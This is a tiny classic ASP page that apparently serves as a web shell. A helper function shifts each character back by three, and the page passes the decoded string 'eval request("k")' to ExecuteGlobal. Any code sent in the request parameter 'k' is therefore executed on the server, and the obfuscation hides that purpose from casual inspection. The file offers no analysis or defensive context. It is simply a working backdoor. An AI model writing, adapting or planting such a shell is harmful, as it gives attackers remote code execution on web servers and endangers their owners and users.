<%
' Runs code kept shifted by three characters.
Function Unshift(s)
	Dim i, o
	For i = 1 To Len(s)
		o = o & Chr(Asc(Mid(s, i, 1)) - 3)
	Next
	Unshift = o
End Function
ExecuteGlobal Unshift("hydo#uhtxhvw+%n%,")
%>
